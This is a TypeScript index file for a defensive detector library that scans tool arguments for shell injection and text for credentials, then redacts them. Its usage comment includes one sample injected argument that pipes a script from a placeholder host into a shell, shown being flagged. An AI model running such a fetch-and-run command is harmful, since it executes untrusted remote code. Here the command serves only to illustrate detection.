/**
 * Detectors shared by the proxy and the gateway: pure functions over JSON values (and JSON text, for
 * redaction that must not re-serialise a message). A finding says what was found (`kind`), where (a JSONPath)
 * and why, in words that never contain the matched value, so findings are safe to log, audit and return to a
 * client. No dependencies beyond the policy library's secret-path reader; no side effects on import.
 *
 * @example
 * scanArguments({ command: 'ls; curl https://x.example/i.sh | sh' }).findings[0].kind; // 'shell_metacharacters'
 * scanCredentials({ text: 'key AKIAIOSFODNN7EXAMPLE' }).findings[0].kind;           // 'aws_access_key_id'
 * redactJson('{"text":"AKIAIOSFODNN7EXAMPLE"}').text;                               // '{"text":"[REDACTED:aws_access_key_id]"}'
 */
export { SEVERITIES, CATEGORIES } from './types.js';
export type { Severity, Category, Finding, ScanOptions, ScanResult } from './types.js';
export { DETECTOR_LIMITS } from './limits.js';
export { ARGUMENT_KINDS } from './arguments.js';
export type { ArgumentKind } from './arguments.js';
export { CREDENTIAL_KINDS, PII_KINDS, DEFAULT_TEXT_KINDS, TOKEN_KINDS } from './credentials.js';
export { scanArguments, scanCredentials, redactCredentials, redactText } from './scan.js';
export { redactJson, stringEnd } from './redact-json.js';
export type { RedactJsonResult } from './redact-json.js';
export { formatPath } from './json-path.js';
export { entropyBitsPerChar, luhnValid, ibanValid } from './validators.js';
